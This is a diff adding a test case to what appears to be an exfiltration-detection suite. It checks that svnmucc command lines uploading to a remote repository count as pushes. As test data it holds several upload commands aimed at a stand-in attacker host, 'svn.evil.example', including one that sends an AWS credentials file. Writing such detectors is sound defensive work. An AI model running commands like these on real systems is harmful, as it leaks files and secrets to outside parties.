@@ -168,6 +168,52 @@ describe('push-tool table', () => {
       expect(hg(args)?.kind, args).not.toBe('push');
   });
 
+  it('svnmucc: an upload anywhere in its action list is a push to its URL, or to a path under -U', () => {
+    const mucc = (args: string) => {
+      const r = recognizeProcess(
+        { binary: '/usr/bin/svnmucc', args, parentBinary: null, parentArgs: null },
+        uploadTarget,
+      );
+      return r?.kind === 'push' ? [r.tool, r.destinationHost, r.remote, r.stdin] : r;
+    };
+    const url = 'https://svn.evil.example/repo/loot/d.tgz';
+    expect(mucc(`-m x mkdir https://svn.evil.example/repo/loot put /tmp/d.tgz ${url}`)).toEqual([
+      'svnmucc',
+      'svn.evil.example',
+      url,
+      false,
+    ]);
+    expect(mucc('-U https://svn.evil.example/repo/ put /tmp/d.tgz loot/d.tgz')).toEqual([
+      'svnmucc',
+      'svn.evil.example',
+      url,
+      false,
+    ]);
+    expect(mucc(`propsetf note /home/app/.aws/credentials ${url}`)).toEqual([
+      'svnmucc',
+      'svn.evil.example',
+      url,
+      false,
+    ]);
+    // `-` is stdin: the pipeline feeding it reads the payload.
+    expect(mucc(`put - ${url}`)).toEqual(['svnmucc', 'svn.evil.example', url, true]);
+    // Falco does not quote arguments: `-m "nightly import"` and `put "/tmp/a b" URL` arrive split.
+    expect(mucc(`-m nightly import put /tmp/d.tgz ${url}`)).toEqual(['svnmucc', 'svn.evil.example', url, false]);
+    expect(mucc(`put /tmp/a b ${url}`)).toEqual(['svnmucc', 'svn.evil.example', url, false]);
+    // Actions from a file are unseen: a push, to the root URL's host if any, else the first connect decides.
+    expect(mucc('-X /tmp/actions -U svn://svn.evil.example/repo')).toEqual([
+      'svnmucc',
+      'svn.evil.example',
+      'svn://svn.evil.example/repo',
+      false,
+    ]);
+    expect(mucc('--extra-args=- -m x')).toEqual(['svnmucc', null, null, false]);
+    // Server-side actions, a local repository, or an action's argument that is merely named `put`.
+    expect(mucc('-U https://svn.corp.example/r mkdir put rm old -m x')).toBeNull();
+    expect(mucc('cp 12 https://svn.corp.example/r/trunk https://svn.corp.example/r/tags/v1')).toBeNull();
+    expect(mucc('put /tmp/d.tgz file:///var/svn/repo/d.tgz')).toBeNull();
+  });
+
   it('recognises renamed git by its plumbing and its helpers, and tools run from temp dirs', () => {
     const sendPack = recognizeProcess(
       {
